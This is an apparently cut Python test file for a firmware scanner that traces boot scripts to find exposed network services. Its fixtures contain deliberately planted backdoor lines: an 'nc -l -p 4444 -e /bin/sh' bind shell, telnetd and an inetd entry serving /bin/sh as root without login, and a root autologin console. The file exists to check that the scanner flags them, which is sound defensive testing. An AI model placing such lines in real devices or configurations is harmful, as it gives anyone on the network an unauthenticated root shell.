"""Services started at boot: the boot path followed statically through busybox init, rcS, init.d loops,
OpenWrt procd scripts, SysV runlevels, systemd units, inetd and cron; ports, auth and the chains that
start each service; benign look-alikes that must stay quiet; the real corpus images."""

from __future__ import annotations

import time

import pytest
from conftest import corpus, findings

import veracity.checks.registry
from veracity.checks.base import NotApplicable
from veracity.checks.boot import shell
from veracity.checks.boot.daemons import catalogue, flag_values, parse_uci, port_of
from veracity.checks.services import ServicesCheck
from veracity.testing.memfs import inventory_from

ELF = b"\x7fELF\x01\x02\x01" + b"\0" * 120


def run(tmp_path, files, links=None, accounts=None, modes=None):
    inv = inventory_from(files, tmp_path, links=links or {}, modes=modes)
    sections: dict[str, list[dict]] = {}
    if accounts is not None:
        sections["accounts"] = accounts
    result = list(ServicesCheck().run(inv, sections))
    return result, sections.get("services", [])


def by_rule(result, rule):
    return sorted((f.path, f.line) for f in result if f.rule == rule)


def service(services, name, **match):
    hits = [s for s in services if s["name"] == name and all(s.get(k) == v for k, v in match.items())]
    assert len(hits) == 1, (name, match, [(s["name"], s["ports"], s["tty"]) for s in services])
    return hits[0]


def ports(s):
    return [(p["proto"], p["port"]) for p in s["ports"]]


# -- busybox: inittab, rcS, init.d loop, inetd, cron ---------------------------------------------------------

BUSYBOX_APPLETS = ["/bin/sh", "/bin/ash", "/sbin/getty", "/usr/sbin/telnetd", "/usr/sbin/httpd", "/usr/sbin/inetd",
                   "/usr/sbin/ftpd", "/usr/sbin/tftpd", "/sbin/syslogd", "/usr/bin/nc", "/bin/mount",
                   "/usr/bin/killall", "/bin/echo", "/sbin/crond", "/bin/login", "/usr/sbin/udhcpd"]

BUSYBOX = {
    "/bin/busybox": ELF + b"BusyBox v1.24.1",
    "/usr/sbin/dropbear": ELF,
    "/usr/bin/adbd": ELF,
    "/etc/inittab": (
        "# /etc/inittab\n"
        "::sysinit:/etc/init.d/rcS\n"
        "ttyS0::respawn:/bin/sh\n"
        "tty2::askfirst:-/bin/ash\n"
        "::respawn:/sbin/getty -L ttyS1 115200 vt100\n"
        "::shutdown:/bin/umount -a -r\n"
        "::ctrlaltdel:/sbin/reboot\n"
    ),
    "/etc/init.d/rcS": (
        "#!/bin/sh\n"
        "# Start all init scripts in /etc/init.d; telnetd is started below\n"
        "PATH=/sbin:/bin:/usr/sbin:/usr/bin\n"
        "PORT=2323\n"
        "mount -a\n"
        "for s in /etc/init.d/S??*; do\n"
        "    [ ! -f \"$s\" ] && continue\n"
        "    case \"$s\" in\n"
        "        *.sh) . \"$s\" ;;\n"
        "        *) $s start ;;\n"
        "    esac\n"
        "done\n"
        "/usr/sbin/telnetd -p $PORT -l /bin/sh &\n"
        "killall telnetd\n"
        "echo \"telnetd /usr/sbin/telnetd started\"\n"
        "[ -x /etc/rc.local ] && /etc/rc.local\n"
    ),
    "/etc/init.d/S01syslog": (
        "#!/bin/sh\n"
        "case \"$1\" in\n"
        "  start) syslogd -C ;;\n"
        "  stop) killall syslogd ;;\n"
        "esac\n"
    ),
    "/etc/init.d/S40dropbear": (
        "#!/bin/sh\n"
        "DAEMON=/usr/sbin/dropbear\n"
        "start() {\n"
        "    start-stop-daemon -S -q -p /var/run/dropbear.pid -x $DAEMON -- -p 0.0.0.0:2222 -s -R\n"
        "}\n"
        "stop() { start-stop-daemon -K -q -p /var/run/dropbear.pid; }\n"
        "case \"$1\" in start) start ;; stop) stop ;; restart) stop; start ;; esac\n"
    ),
    "/etc/init.d/S50httpd": "#!/bin/sh\n[ \"$1\" = start ] || exit 0\n/usr/sbin/httpd -p 8080 -h /www &\n",
    "/etc/init.d/S60inetd": "#!/bin/sh\ninetd\ncrond -c /etc/crontabs\n",
    "/etc/init.d/S70debug": (
        "#!/bin/sh\n"
        "# gdbserver is not shipped: this branch is dead\n"
        "if [ -x /usr/bin/gdbserver ]; then\n"
        "    gdbserver :1234 --attach 1 &\n"
        "fi\n"
    ),
    "/etc/init.d/S80factory.sh": "FACTORY_PORT=4444\nnc -l -p $FACTORY_PORT -e /bin/sh &\n",
    "/etc/init.d/S90a": "#!/bin/sh\n/etc/init.d/S91b start\n",
    "/etc/init.d/S91b": "#!/bin/sh\n/etc/init.d/S90a start\nudhcpd /etc/udhcpd.conf\n",
    "/etc/init.d/README": "telnetd -l /bin/sh\n",
    "/etc/rc.local": "#!/bin/sh\n/usr/bin/adbd &\nexit 0\n",
    "/etc/inetd.conf": (
        "#telnet stream tcp nowait root /usr/sbin/telnetd telnetd -i\n"
        "ftp\tstream\ttcp\tnowait\troot\t/usr/sbin/ftpd\tftpd -w /srv\n"
        "tftp dgram udp wait root /usr/sbin/tftpd tftpd -c /srv\n"
        "shell stream tcp nowait root /bin/sh sh -i\n"
        "daytime stream tcp nowait root internal\n"
    ),
    "/etc/crontabs/root": (
        "# m h dom mon dow command\n"
        "*/5 * * * * /usr/sbin/telnetd -p 2424 -F >/dev/null 2>&1\n"
        "0 3 * * * killall -HUP syslogd\n"
    ),
}
BUSYBOX_LINKS = {path: "/bin/busybox" for path in BUSYBOX_APPLETS}


def test_busybox_boot_chain(tmp_path):
    result, services = run(tmp_path, BUSYBOX, BUSYBOX_LINKS)

    telnet = service(services, "telnetd", ports=[{"proto": "tcp", "port": 2323}])
    assert telnet["binary"] == "/usr/sbin/telnetd"
    assert telnet["args"] == ["-p", "2323", "-l", "/bin/sh"]
    assert telnet["auth"] == "none"
    assert telnet["started_by"] == ["/etc/inittab", "/etc/init.d/rcS"]
    assert telnet["line"] == 13
    assert telnet["container"] == ["test.img", "squashfs@0x0"]
    assert "2323/tcp" in telnet["summary"] and "/etc/init.d/rcS" in telnet["summary"]

    dropbear = service(services, "dropbear")
    assert ports(dropbear) == [("tcp", 2222)]
    assert dropbear["auth"] == "key"
    assert dropbear["started_by"] == ["/etc/inittab", "/etc/init.d/rcS", "/etc/init.d/S40dropbear"]
    assert dropbear["args"] == ["-p", "0.0.0.0:2222", "-s", "-R"]

    httpd = service(services, "httpd")
    assert ports(httpd) == [("tcp", 8080)] and httpd["line"] == 3
    syslogd = service(services, "syslogd")
    assert syslogd["ports"] == [] and syslogd["started_by"][-1] == "/etc/init.d/S01syslog"

    # a sourced *.sh in the loop, with its own variable
    nc = service(services, "nc")
    assert ports(nc) == [("tcp", 4444)] and nc["auth"] == "none"
    assert nc["started_by"] == ["/etc/inittab", "/etc/init.d/rcS", "/etc/init.d/S80factory.sh"]

    # consoles
    sh = service(services, "sh", tty="ttyS0")
    assert sh["auth"] == "none" and sh["started_by"] == ["/etc/inittab"] and sh["line"] == 3
    ash = service(services, "ash", tty="tty2")
    assert ash["auth"] == "none"
    getty = service(services, "getty")
    assert getty["tty"] == "ttyS1" and getty["auth"] == "password"

    # inetd: the commented telnet line is ignored; ports from the built-in services table
    ftp = service(services, "ftpd")
    assert ports(ftp) == [("tcp", 21)] and ftp["started_by"] == [
        "/etc/inittab", "/etc/init.d/rcS", "/etc/init.d/S60inetd", "/etc/inetd.conf"]
    assert ftp["line"] == 2
    tftp = service(services, "tftpd")
    assert ports(tftp) == [("udp", 69)] and tftp["auth"] == "none"
    inetd_sh = service(services, "sh", ports=[{"proto": "tcp", "port": 514}])
    assert inetd_sh["auth"] == "none" and inetd_sh["line"] == 4
    assert not [s for s in services if s["name"] == "telnetd" and s["line"] == 1]
    daytime = service(services, "daytime")  # served by inetd itself
    assert daytime["binary"] is None and ports(daytime) == [("tcp", 13)]

    # rc.local through rcS; cron tab
    adbd = service(services, "adbd")
    assert adbd["started_by"] == ["/etc/inittab", "/etc/init.d/rcS", "/etc/rc.local"]
    cron_telnet = service(services, "telnetd", ports=[{"proto": "tcp", "port": 2424}])
    assert cron_telnet["started_by"] == ["/etc/crontabs/root"] and cron_telnet["auth"] == "password"

    # the scripts calling each other were walked once each
    udhcpd = service(services, "udhcpd")
    assert udhcpd["started_by"] == ["/etc/inittab", "/etc/init.d/rcS", "/etc/init.d/S90a", "/etc/init.d/S91b"]

    assert by_rule(result, "VER-SVC-002") == [
        ("/etc/inetd.conf", 4), ("/etc/init.d/S80factory.sh", 2), ("/etc/init.d/rcS", 13)]
    assert by_rule(result, "VER-SVC-001") == [
        ("/etc/crontabs/root", 2), ("/etc/inetd.conf", 2), ("/etc/inetd.conf", 3)]
    assert by_rule(result, "VER-SVC-003") == [("/etc/rc.local", 2)]
    assert by_rule(result, "VER-SVC-004") == [
        ("/etc/inetd.conf", 5), ("/etc/init.d/S40dropbear", 4), ("/etc/init.d/S50httpd", 3), ("/etc/init.d/S91b", 3)]
    assert by_rule(result, "VER-SVC-005") == [("/etc/inittab", 3), ("/etc/inittab", 4)]
    assert by_rule(result, "VER-SVC-006") == []
    crit = [f for f in result if f.rule == "VER-SVC-002"]
    assert {f.severity for f in crit} == {"critical"}
    assert len({f.fingerprint for f in result}) == len(result)


def test_busybox_benign_look_alikes(tmp_path):
    result, services = run(tmp_path, BUSYBOX, BUSYBOX_LINKS)
    started = {(s["name"], s["line"], s["started_by"][-1]) for s in services}
    # killall telnetd, echo "telnetd ...", a comment, README (not S??*), the dead gdbserver branch
    assert not [s for s in started if s[2] == "/etc/init.d/rcS" and s[1] in (2, 14, 15)]
    assert not [s for s in services if "README" in " ".join(s["started_by"])]
    assert not [s for s in services if s["name"] == "gdbserver"]
    assert not [s for s in services if s["name"] in ("killall", "echo", "mount", "umount", "reboot")]
    assert not [f for f in result if f.path in ("/etc/init.d/S70debug", "/etc/init.d/README")]


def test_only_comments_and_kills(tmp_path):
    files = {
        "/bin/busybox": ELF,
        "/etc/inittab": "::sysinit:/etc/init.d/rcS\n# ttyS0::respawn:/bin/sh\n::shutdown:/sbin/telnetd\n",
        "/etc/init.d/rcS": (
            "#!/bin/sh\n# /usr/sbin/telnetd -l /bin/sh &\nkillall telnetd\nkill -9 $(pidof telnetd)\n"
            "echo 'telnetd -l /bin/sh &'\ncat > /tmp/x <<EOF\ntelnetd -l /bin/sh &\nEOF\n"
            "TELNET=\"/usr/sbin/telnetd -p 23\"\n"
        ),
        "/etc/inetd.conf": "telnet stream tcp nowait root /usr/sbin/telnetd telnetd\n",  # inetd never started
        "/etc/crontabs/root": "# */1 * * * * /usr/sbin/telnetd\n",
    }
    links = {p: "/bin/busybox" for p in ("/usr/sbin/telnetd", "/usr/bin/killall", "/bin/kill", "/usr/sbin/inetd",
                                           "/bin/sh", "/bin/cat", "/bin/echo", "/sbin/pidof")}
    result, services = run(tmp_path, files, links)
    assert services == []
    assert result == []


def test_links_init_never_runs(tmp_path):
    # busybox init ignores runlevels and has no procd: rc3.d and rc.d/S* links nobody calls start nothing
    files = {
        "/bin/busybox": ELF,
        "/etc/inittab": "::sysinit:/etc/init.d/rcS\n",
        "/etc/init.d/rcS": "#!/bin/sh\nmount -a\n",
        "/etc/init.d/telnet": "#!/bin/sh\ntelnetd -l /bin/sh\n",
    }
    links = {"/usr/sbin/telnetd": "/bin/busybox", "/bin/mount": "/bin/busybox", "/bin/sh": "/bin/busybox",
             "/etc/rc3.d/S50telnet": "../init.d/telnet", "/etc/rc.d/S50telnet": "../init.d/telnet"}
    result, services = run(tmp_path, files, links)
    assert services == [] and result == []


def test_busybox_without_inittab(tmp_path):
    files = {"/bin/busybox": ELF, "/etc/init.d/rcS": "#!/bin/sh\n/usr/sbin/telnetd\n"}
    links = {"/sbin/init": "../bin/busybox", "/bin/sh": "busybox", "/usr/sbin/telnetd": "../../bin/busybox"}
    result, services = run(tmp_path, files, links)
    telnet = service(services, "telnetd")
    assert telnet["started_by"] == ["/sbin/init", "/etc/init.d/rcS"] and ports(telnet) == [("tcp", 23)]
    assert telnet["auth"] == "password"
    assert by_rule(result, "VER-SVC-001") == [("/etc/init.d/rcS", 2)]
    assert by_rule(result, "VER-SVC-005") == [("/sbin/init", 1)]  # busybox's built-in askfirst shell


def test_accounts_give_credentials(tmp_path):
    accounts = [
        {"name": "root", "uid": 0, "gid": 0, "shell": "/bin/sh", "home": "/root", "password_state": "cracked",
         "source": "/etc/shadow", "login": True, "password_hint": "ad***"},
        {"name": "admin", "uid": 1000, "gid": 1000, "shell": "/bin/sh", "home": "/home/admin",
         "password_state": "hash:sha512crypt", "source": "/etc/shadow", "login": True, "password_hint": None},
        {"name": "nobody", "uid": 65534, "gid": 65534, "shell": "/bin/false", "home": "/", "password_state": "locked",
         "source": "/etc/shadow", "login": False, "password_hint": None},
    ]
    files = {
        "/bin/busybox": ELF, "/usr/sbin/dropbear": ELF,
        "/etc/inittab": "::sysinit:/etc/init.d/rcS\n",
        "/etc/init.d/rcS": "#!/bin/sh\ntelnetd\n/usr/sbin/dropbear -w -p 22\n/usr/sbin/telnetd -l /bin/sh -p 24\n",
    }
    links = {"/usr/sbin/telnetd": "/bin/busybox", "/bin/sh": "busybox"}
    _result, services = run(tmp_path, files, links, accounts=accounts)
    telnet = service(services, "telnetd", ports=[{"proto": "tcp", "port": 23}])
    assert [c["name"] for c in telnet["credentials"]] == ["root", "admin"]
    assert telnet["credentials"][0]["password_state"] == "cracked"
    assert telnet["summary"] == ("telnetd on 23/tcp, started by /etc/init.d/rcS, login as root with a default "
                                 "password, admin with a password")
    dropbear = service(services, "dropbear")
    assert [c["name"] for c in dropbear["credentials"]] == ["admin"]  # -w: no root login
    shell_telnet = service(services, "telnetd", ports=[{"proto": "tcp", "port": 24}])
    assert shell_telnet["credentials"] == [] and "without login" in shell_telnet["summary"]


# -- OpenWrt: procd and rc.common scripts enabled by /etc/rc.d links ----------------------------------------

DROPBEAR_INIT = """#!/bin/sh /etc/rc.common
# Copyright (C) 2006-2010 OpenWrt.org

START=19
STOP=50

USE_PROCD=1
PROG=/usr/sbin/dropbear
NAME=dropbear
PIDCOUNT=0

dropbear_instance()
{
	local PasswordAuth enable Interface GatewayPorts RootPasswordAuth RootLogin BannerFile Port
	validate_section_dropbear "${1}" || {
		echo "validation failed"
		return 1
	}
	[ "${enable}" = "0" ] && return 1
	PIDCOUNT="$(( ${PIDCOUNT} + 1))"
	local pid_file="/var/run/${NAME}.${PIDCOUNT}.pid"

	procd_open_instance
	procd_set_param command "$PROG" -F -P "$pid_file"
	[ "${PasswordAuth}" -eq 0 ] && procd_append_param command -s
	[ "${RootLogin}" -eq 0 ] && procd_append_param command -w
	[ -n "${BannerFile}" ] && procd_append_param command -b "${BannerFile}"
	procd_append_param command -p "${address:+$address:}${Port}"
	procd_set_param respawn
	procd_close_instance
}

start_service()
{
	[ -s /etc/dropbear/dropbear_rsa_host_key ] || keygen

	. /lib/functions.sh
	. /lib/functions/network.sh

	config_load "${NAME}"
	config_foreach dropbear_instance dropbear
}
"""

OPENWRT = {
    "/bin/busybox": ELF,
    "/sbin/procd": ELF,
    "/usr/sbin/dropbear": ELF,
    "/usr/sbin/uhttpd": ELF,
    "/usr/sbin/miniupnpd": ELF,
    "/usr/bin/ttyd": ELF,
    "/etc/inittab": (
        "::sysinit:/etc/init.d/rcS S boot\n"
        "::shutdown:/etc/init.d/rcS K shutdown\n"
        "::askconsole:/usr/libexec/login.sh\n"
    ),
    "/usr/libexec/login.sh": (
        "#!/bin/sh\n\n"
        "[ \"$(uci -q get system.@system[0].ttylogin)\" = 1 ] || exec /bin/ash --login\n\n"
        "exec /bin/login\n"
    ),
    "/etc/rc.common": "#!/bin/sh\n# rc.common: not walked, emulated\n",
    "/lib/functions.sh": (
        "#!/bin/sh\n"
        "config_foreach() { local ___function=\"$1\"; shift; for section in ${CONFIG_SECTIONS}; do eval "
        "\"$___function \\\"\\$section\\\" \\\"\\$@\\\"\"; done; }\n"
        "config_get() { :; }\n"
    ),
    "/etc/init.d/dropbear": DROPBEAR_INIT,
    "/etc/config/dropbear": "config dropbear\n\toption PasswordAuth 'on'\n\toption RootPasswordAuth 'on'\n\toption Port '22'\n",
    "/etc/init.d/uhttpd": (
        "#!/bin/sh /etc/rc.common\n"
        "START=50\nUSE_PROCD=1\n"
        "UHTTPD_BIN=\"/usr/sbin/uhttpd\"\n"
        "start_instance() {\n"
        "\tconfig_get listen_http \"$cfg\" listen_http\n"
        "\tprocd_open_instance\n"
        "\tprocd_set_param command \"$UHTTPD_BIN\" -f\n"
        "\tprocd_append_param command -h /www\n"
        "\tfor listen in $listen_http; do procd_append_param command -p \"$listen\"; done\n"
        "\tprocd_close_instance\n"
        "}\n"
        "start_service() {\n"
        "\tconfig_load uhttpd\n"
        "\tconfig_foreach start_instance uhttpd\n"
        "}\n"
    ),
    "/etc/config/uhttpd": (
        "config uhttpd main\n"
        "\tlist listen_http\t0.0.0.0:80\n"
        "\tlist listen_http\t[::]:80\n"
        "\tlist listen_https\t0.0.0.0:443\n"
        "#\tlist listen_https\t0.0.0.0:8443\n"
    ),
    "/etc/init.d/miniupnpd": (
        "#!/bin/sh /etc/rc.common\nSTART=94\nUSE_PROCD=1\n"
        "start_service() {\n\tprocd_open_instance\n"
        "\tprocd_set_param command /usr/sbin/miniupnpd -f /var/etc/miniupnpd.conf\n\tprocd_close_instance\n}\n"
    ),
    "/lib/functions/service.sh": "service_start() { start-stop-daemon -S -x \"$1\" -- \"$@\"; }\n",
    "/usr/sbin/ntpd_vendor": ELF,
    "/etc/init.d/sysntpd": (
        "#!/bin/sh /etc/rc.common\nSTART=98\n. /lib/functions/service.sh\n"
        "start() {\n\tservice_start /usr/sbin/ntpd_vendor -l -p 0.pool.ntp.org\n}\n"
    ),
    "/etc/init.d/telnet": (
        "#!/bin/sh /etc/rc.common\nSTART=50\n"
        "start() {\n\tif ( ! has_root_pwd /etc/passwd && ! has_root_pwd /etc/shadow ); then\n"
        "\t\tservice_start /usr/sbin/telnetd -l /bin/login.sh\n\tfi\n}\n"
    ),
    "/etc/init.d/done": (
        "#!/bin/sh /etc/rc.common\nSTART=95\n"
        "boot() {\n\tmount_root done\n\trm -f /sysupgrade.tgz\n"
        "\t# process user commands\n\t[ -f /etc/rc.local ] && {\n\t\tsh /etc/rc.local\n\t}\n}\n"
    ),
    "/etc/rc.local": "# Put your custom commands here\n/usr/bin/ttyd -p 7681 /bin/ash &\nexit 0\n",
}
OPENWRT_LINKS = {
    "/bin/sh": "busybox", "/bin/ash": "busybox", "/bin/login": "busybox", "/usr/sbin/telnetd": "../../bin/busybox",
    "/bin/mount_root": "busybox",
    "/etc/rc.d/S19dropbear": "../init.d/dropbear",
    "/etc/rc.d/S50uhttpd": "../init.d/uhttpd",
    "/etc/rc.d/S94miniupnpd": "../init.d/miniupnpd",
    "/etc/rc.d/S95done": "../init.d/done",
    "/etc/rc.d/S98sysntpd": "../init.d/sysntpd",
    "/sbin/init": "procd",
}


def test_openwrt_procd(tmp_path):
    result, services = run(tmp_path, OPENWRT, OPENWRT_LINKS)
    dropbear = service(services, "dropbear")
    assert dropbear["started_by"] == ["/etc/rc.d/S19dropbear", "/etc/init.d/dropbear"]
    assert dropbear["line"] == 24
    # PIDCOUNT comes from shell arithmetic and the port from UCI at run time: unknown to the walk
    assert dropbear["args"] == ["-F", "-P", "/var/run/dropbear.<unknown>.pid", "-p", "<unknown>"]
    assert "-s" not in dropbear["args"]  # PasswordAuth is on: the conditional -s is not applied
    assert ports(dropbear) == [("tcp", 22)] and dropbear["auth"] == "password"
    assert dropbear["config"] == "/etc/config/dropbear"

    uhttpd = service(services, "uhttpd")
    assert ports(uhttpd) == [("tcp", 80), ("tcp", 443)]
    assert uhttpd["started_by"] == ["/etc/rc.d/S50uhttpd", "/etc/init.d/uhttpd"]

    upnp = service(services, "miniupnpd")
    assert ports(upnp) == [("udp", 1900)]

    ttyd = service(services, "ttyd")
    assert ttyd["started_by"] == ["/etc/rc.d/S95done", "/etc/init.d/done", "/etc/rc.local"]
    assert ports(ttyd) == [("tcp", 7681)] and ttyd["auth"] == "none"

    # the console: login.sh execs ash --login unless ttylogin is set (a run-time value): both are walked
    ash = service(services, "ash", tty="console")
    assert ash["conditional"] is True and ash["started_by"] == ["/etc/inittab", "/usr/libexec/login.sh"]
    login = service(services, "login", tty="console")
    assert login["auth"] == "password"

    # rc.common without procd: start() with service_start (even where a sourced file defines it)
    ntpd = service(services, "ntpd_vendor")
    assert ntpd["args"] == ["-l", "-p", "0.pool.ntp.org"] and ntpd["line"] == 5

    # disabled service (no /etc/rc.d link): never started
    assert not [s for s in services if s["name"] == "telnetd"]

    assert by_rule(result, "VER-SVC-002") == [("/etc/rc.local", 2)]
    assert by_rule(result, "VER-SVC-004") == [
        ("/etc/init.d/dropbear", 24), ("/etc/init.d/miniupnpd", 6), ("/etc/init.d/uhttpd", 8)]
    assert [f.severity for f in result if f.path == "/etc/init.d/miniupnpd"] == ["medium"]
    assert by_rule(result, "VER-SVC-005") == [("/usr/libexec/login.sh", 3)]
    assert by_rule(result, "VER-SVC-001") == []


def test_openwrt_disabled_in_uci(tmp_path):
    files = dict(OPENWRT)
    files["/etc/config/dropbear"] = "config dropbear\n\toption enable '0'\n\toption Port '22'\n"
    result, services = run(tmp_path, files, OPENWRT_LINKS)
    assert not [s for s in services if s["name"] == "dropbear"]
    assert not [f for f in result if f.path == "/etc/init.d/dropbear"]
    files["/etc/config/dropbear"] = "config dropbear\n\toption PasswordAuth 'off'\n\toption Port '2022'\n"
    _result, services = run(tmp_path, files, OPENWRT_LINKS)
    dropbear = service(services, "dropbear")
    assert ports(dropbear) == [("tcp", 2022)] and dropbear["auth"] == "key"


def test_openwrt_old_rcs_loop(tmp_path):
    files = dict(OPENWRT)
    files["/etc/init.d/rcS"] = (
        "#!/bin/sh\n# Copyright (C) 2006 OpenWrt.org\n\n"
        "run_scripts() {\n\tfor i in /etc/rc.d/$1*; do\n\t\t[ -x $i ] && $i $2 2>&1\n\tdone | $LOGGER\n}\n\n"
        "LOGGER=\"cat\"\n[ -x /usr/bin/logger ] && LOGGER=\"logger -s -p 6 -t sysinit\"\n\n"
        "if [ \"$1\" = \"S\" ]; then\n\trun_scripts \"$1\" \"$2\" &\nelse\n\trun_scripts \"$1\" \"$2\"\nfi\n"
    )
    _result, services = run(tmp_path, files, OPENWRT_LINKS)
    dropbear = service(services, "dropbear")
    assert dropbear["started_by"] == ["/etc/inittab", "/etc/init.d/rcS", "/etc/rc.d/S19dropbear", "/etc/init.d/dropbear"]
    assert dropbear["conditional"] is False


# -- SysV runlevels ------------------------------------------------------------------------------------------


def test_sysv_runlevels(tmp_path):
    files = {
        "/usr/sbin/utelnetd": ELF, "/sbin/getty": ELF, "/usr/sbin/snmpd": ELF, "/bin/sh": ELF,
        "/etc/inittab": (
            "id:2:initdefault:\n"
            "si::sysinit:/etc/init.d/rcS\n"
            "l0:0:wait:/etc/init.d/rc 0\n"
            "l2:2:wait:/etc/init.d/rc 2\n"
            "l6:6:wait:/etc/init.d/rc 6\n"
            "1:2345:respawn:/sbin/getty 38400 tty1\n"
            "T0:23:respawn:/sbin/getty -n -l /bin/sh -L ttyS0 115200 vt100\n"
            "ca:12345:ctrlaltdel:/sbin/shutdown -t1 -a -r now\n"
        ),
        "/etc/init.d/rcS": "#!/bin/sh\nexec /etc/init.d/rc S\n",
        "/etc/init.d/rc": (
            "#!/bin/sh\nrunlevel=$1\n"
            "for s in /etc/rc$runlevel.d/S*; do\n  [ -x \"$s\" ] && \"$s\" start\ndone\n"
        ),
        "/etc/init.d/utelnetd": (
            "#!/bin/sh\nDAEMON=/usr/sbin/utelnetd\nNAME=utelnetd\n"
            "case \"$1\" in\n  start)\n    start-stop-daemon --start --quiet --background --exec $DAEMON -- -p 2323\n"
            "    ;;\n  stop)\n    start-stop-daemon --stop --quiet --exec $DAEMON\n    ;;\nesac\n"
        ),
        "/etc/init.d/snmpd": "#!/bin/sh\n[ \"$1\" = start ] && /usr/sbin/snmpd -Lsd udp:1161\n",
    }
    links = {
        "/etc/rc2.d/S20utelnetd": "../init.d/utelnetd",
        "/etc/rc0.d/K20utelnetd": "../init.d/utelnetd",
        "/etc/rc3.d/S30snmpd": "../init.d/snmpd",  # runlevel 3 is not the default
    }
    result, services = run(tmp_path, files, links)
    telnet = service(services, "utelnetd")
    assert telnet["started_by"] == ["/etc/inittab", "/etc/init.d/rc", "/etc/rc2.d/S20utelnetd", "/etc/init.d/utelnetd"]
    assert ports(telnet) == [("tcp", 2323)]
    assert not [s for s in services if s["name"] == "snmpd"]
    getty = service(services, "getty", tty="ttyS0")
    assert getty["auth"] == "none"
    assert service(services, "getty", tty="tty1")["auth"] == "password"
    assert by_rule(result, "VER-SVC-001") == [("/etc/init.d/utelnetd", 6)]
    assert by_rule(result, "VER-SVC-005") == [("/etc/inittab", 7)]


# -- systemd -------------------------------------------------------------------------------------------------

SYSTEMD = {
    "/lib/systemd/systemd": ELF,
    "/usr/sbin/sshd": ELF, "/usr/sbin/in.telnetd": ELF, "/sbin/agetty": ELF, "/usr/sbin/vsftpd": ELF,
    "/usr/sbin/avahi-daemon": ELF, "/usr/bin/adbd": ELF, "/usr/bin/gdbserver": ELF,
    "/lib/systemd/system/ssh.service": (
        "[Unit]\nDescription=OpenBSD Secure Shell server\n\n[Service]\nEnvironment=\"SSHD_OPTS=\"\n"
        "ExecStartPre=/usr/sbin/sshd -t\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\nType=notify\n\n"
        "[Install]\nWantedBy=multi-user.target\n"
    ),
    "/etc/ssh/sshd_config": "Port 2200\nPasswordAuthentication no\nKbdInteractiveAuthentication no\nPermitRootLogin no\n",
    "/lib/systemd/system/telnet.socket": "[Socket]\nListenStream=23\nAccept=yes\n\n[Install]\nWantedBy=sockets.target\n",
    "/lib/systemd/system/telnet@.service": "[Service]\nExecStart=-/usr/sbin/in.telnetd\nStandardInput=socket\n",
    "/lib/systemd/system/serial-getty@.service": (
        "[Service]\nExecStart=-/sbin/agetty --autologin root --keep-baud 115200,57600,38400,9600 %I $TERM\n"
        "Type=idle\nRestart=always\n"
    ),
    "/lib/systemd/system/vsftpd.service": "[Service]\nExecStart=/usr/sbin/vsftpd /etc/vsftpd.conf\n",
    "/lib/systemd/system/avahi-daemon.service": "[Service]\nExecStart=/usr/sbin/avahi-daemon -s\n",
    "/lib/systemd/system/adbd.service": "[Service]\nExecStart=/usr/bin/adbd\n",
    "/lib/systemd/system/gdbserver.service": "[Service]\nExecStart=/usr/bin/gdbserver --multi :2345\n",
    "/lib/systemd/system/gdbserver.service.d/override.conf": "[Service]\nExecStart=\nExecStart=/usr/bin/gdbserver --multi :3456\n",
    # SysV scripts: systemd's generator runs only those without a native unit
    "/etc/init.d/ssh": "#!/bin/sh\n/usr/sbin/sshd -p 22\n",
    "/usr/sbin/legacyd": ELF,
    "/etc/init.d/legacyd": "#!/bin/sh\ncase \"$1\" in start) /usr/sbin/legacyd -p 8081 & ;; esac\n",
}
SYSTEMD_LINKS = {
    "/sbin/init": "/lib/systemd/systemd",
    "/etc/systemd/system/multi-user.target.wants/ssh.service": "/lib/systemd/system/ssh.service",
    "/etc/systemd/system/sockets.target.wants/telnet.socket": "/lib/systemd/system/telnet.socket",
    "/etc/systemd/system/getty.target.wants/serial-getty@ttyS0.service": "/lib/systemd/system/serial-getty@.service",
    "/etc/systemd/system/multi-user.target.wants/avahi-daemon.service": "/lib/systemd/system/avahi-daemon.service",
    "/etc/systemd/system/avahi-daemon.service": "/dev/null",  # masked
    "/etc/systemd/system/rescue.target.wants/adbd.service": "/lib/systemd/system/adbd.service",
    "/etc/systemd/system/multi-user.target.wants/gdbserver.service": "/lib/systemd/system/gdbserver.service",
    "/etc/rc3.d/S01ssh": "../init.d/ssh",
    "/etc/rc3.d/S02legacyd": "../init.d/legacyd",
}


def test_systemd_units(tmp_path):
    result, services = run(tmp_path, SYSTEMD, SYSTEMD_LINKS)
    sshd = service(services, "sshd")
    assert sshd["started_by"] == ["/etc/systemd/system/multi-user.target.wants/ssh.service",
                                  "/lib/systemd/system/ssh.service"]
    assert sshd["line"] == 7 and sshd["args"] == ["-D"]
    assert ports(sshd) == [("tcp", 2200)] and sshd["auth"] == "key" and sshd["config"] == "/etc/ssh/sshd_config"

    telnet = service(services, "in.telnetd")
    assert ports(telnet) == [("tcp", 23)]
    assert telnet["started_by"] == ["/etc/systemd/system/sockets.target.wants/telnet.socket",
                                    "/lib/systemd/system/telnet.socket", "/lib/systemd/system/telnet@.service"]
    getty = service(services, "agetty")
    assert getty["tty"] == "ttyS0" and getty["auth"] == "none"
    gdb = service(services, "gdbserver")
    assert ports(gdb) == [("tcp", 3456)]  # the drop-in resets ExecStart
    assert gdb["started_by"] == ["/etc/systemd/system/multi-user.target.wants/gdbserver.service",
                                 "/lib/systemd/system/gdbserver.service",
                                 "/lib/systemd/system/gdbserver.service.d/override.conf"]

    # not enabled, masked, wanted only by rescue.target
    assert not [s for s in services if s["name"] in ("vsftpd", "avahi-daemon", "adbd")]
    assert [s["started_by"] for s in services if s["name"] == "sshd"] == [sshd["started_by"]]
    legacy = service(services, "legacyd")
    assert legacy["started_by"] == ["/etc/rc3.d/S02legacyd", "/etc/init.d/legacyd"] and legacy["class"] == "unknown"

    assert by_rule(result, "VER-SVC-001") == [("/lib/systemd/system/telnet@.service", 2)]
    assert by_rule(result, "VER-SVC-003") == [("/lib/systemd/system/gdbserver.service.d/override.conf", 3)]
    assert by_rule(result, "VER-SVC-004") == [("/lib/systemd/system/ssh.service", 7)]
    assert by_rule(result, "VER-SVC-005") == [("/lib/systemd/system/serial-getty@.service", 2)]


# -- superservers, socat, exec permission -------------------------------------------------------------------


def test_xinetd_tcpsvd_socat_and_image_services(tmp_path):
    files = {
        "/bin/busybox": ELF, "/usr/sbin/xinetd": ELF, "/usr/sbin/in.telnetd": ELF, "/usr/bin/socat": ELF,
        "/usr/sbin/in.tftpd": ELF, "/usr/bin/vendord": ELF, "/usr/bin/app": ELF,
        "/etc/inittab": "::sysinit:/etc/init.d/rcS\n::respawn:/usr/bin/start_app.sh\n",
